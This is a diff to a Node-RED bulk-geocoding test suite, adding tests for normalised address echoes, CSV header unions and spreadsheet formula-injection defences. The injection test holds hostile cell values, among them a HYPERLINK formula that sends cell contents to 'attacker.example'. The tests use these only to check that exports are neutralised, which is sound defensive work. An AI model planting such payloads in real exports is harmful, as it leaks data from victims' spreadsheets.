@@ -6,6 +6,7 @@ import { Json, expectOutput, helper, loadWithSandbox, sendAndCollect, useSandbox
 import { bulkControls, resetBulk } from '../sandbox/endpoints/bulk';
 import { geocode } from '../sandbox/endpoints/geocode';
 import { readCsv } from '../sandbox/csv';
+import { formulaCells, spreadsheetCells } from '../support/spreadsheet';
 import type { BulkRow } from '../../nodes/lib/geo/result-rows';
 import type { BulkSummary } from '../../nodes/lib/node-red/bulk-output';
 import type { JobReport } from '../../nodes/lib/platform/bulk-run';
@@ -152,6 +153,21 @@ describe('svc-bulk-geocode rows', function () {
       should((msg.jobs as JobReport[])[0]).have.properties({ unmatchedInputs: 1, unmatchedResults: 1 });
     });
 
+    it('echoes upper-cased (ß as SS) or in NFKC (full-width digits as ASCII) pair with the addresses sent (issue 27 point 6)', async function () {
+      const addresses = ['Hauptstraße 5, Berlin', 'Straße des 17. Juni 31, Berlin', 'Ｍａｉｎ Ｓｔｒｅｅｔ １２', '３ Market Square', 'ﬁfth Avenue 7'];
+      for (const echoForm of ['upper', 'nfkc'] as const) {
+        resetBulk(ctx.sandbox);
+        await load();
+        bulkControls(ctx.sandbox).echoForm = echoForm;
+        const msg = await expectOutput('n1', { payload: addresses });
+        const rows = msg.payload as BulkRow[];
+        should(rows.filter((row) => row.code !== undefined).map((row) => row.input)).eql([], echoForm);
+        for (const row of rows) should(row.location).eql(locationOf(row.input as string), `${echoForm}: ${String(row.input)}`);
+        should(warnings()).be.empty();
+        await helper.unload();
+      }
+    });
+
     it('a file whose rows echo nothing is paired by position (it gives nothing to check with)', async function () {
       await load();
       Object.assign(bulkControls(ctx.sandbox), { echoAddress: false });
@@ -180,12 +196,57 @@ describe('svc-bulk-geocode rows', function () {
       await load({ output: 'file', outputFile: file });
       await expectOutput('n1', { payload: input });
       const { rows } = rowsOfFile(file);
-      should(rows.map((row) => row.note).slice(0, HOSTILE.length)).eql(HOSTILE.map((cell) => `'${cell}`));
+      should(rows.map((row) => row.note).slice(0, HOSTILE.length)).eql(HOSTILE.map((cell) => `'${cell.replace(/^([\t\r])=/, "$1'=")}`));
       should(rows[6].note).equal('-33.8688');
       should(rows[7].note).equal('plain text, with a comma');
       should(rows.map((row) => row.address)).eql(input.map((row) => row.address));
       // Coordinates are numbers: negative or not, they stay numbers.
       for (const row of rows) should(Number.isFinite(Number(row.latitude))).be.true();
+    });
+
+    it('neither a "," nor a ";" reader (Excel in de-DE, fr-FR) sees a formula in the file, and numbers stay numbers (issue 27 point 6)', async function () {
+      const cells = [
+        '\n=1+1',
+        '\r\n=1+1',
+        'Carrer Major 1;=HYPERLINK("http://attacker.example/?"&A1,"click")',
+        'Carrer Major 1;""=1+1',
+        'line one\n@SUM(1)',
+        'tab\t=1+1',
+        '-12.5',
+      ];
+      const file = path.join(dir, 'both.csv');
+      await load({ output: 'file', outputFile: file });
+      await expectOutput('n1', { payload: cells.map((note, i) => ({ address: `${i + 1} Main Street`, note })) });
+      const text = fs.readFileSync(file, 'utf8');
+      for (const separator of [',', ';'] as const) should(formulaCells(spreadsheetCells(text, separator))).eql([], `separator ${separator}`);
+      const { rows } = rowsOfFile(file);
+      should(rows.map((row) => row.note.replace(/'/g, ''))).eql(cells);
+      should(rows[cells.length - 1].note).equal('-12.5');
+      for (const row of rows) should(Number.isFinite(Number(row.latitude))).be.true();
+    });
+
+    it('no member is dropped: a member only later rows have becomes a column, also after the first job (issue 27 point 6)', async function () {
+      const file = path.join(dir, 'union.csv');
+      await load({ output: 'file', outputFile: file, batchSize: 2 });
+      const input = [
+        { address: '1 Main Street', note: 'a' },
+        { address: '2 Main Street', city: 'Springfield', note: 'b' },
+        { address: '3 Main Street', note: 'c' },
+        { address: '4 Main Street', floor: '3', note: 'd' },
+        { address: '5 Main Street', note: 'e' },
+      ];
+      const msg = await expectOutput('n1', { payload: input });
+      should(msg.payload).have.properties({ rows: 5, located: 5 });
+      const { header, rows } = rowsOfFile(file);
+      should(header).eql(['index', 'address', 'city', 'note', 'latitude', 'longitude', 'error', 'result', 'floor']);
+      should(rows.map((row) => [row.address, row.note, row.city ?? '', row.floor ?? ''])).eql([
+        ['1 Main Street', 'a', '', ''],
+        ['2 Main Street', 'b', 'Springfield', ''],
+        ['3 Main Street', 'c', '', ''],
+        ['4 Main Street', 'd', '', '3'],
+        ['5 Main Street', 'e', '', ''],
+      ]);
+      should(fs.readdirSync(dir)).eql(['union.csv']);
     });
 
     it('writes a column name a spreadsheet would run with a leading quote too', async function () {
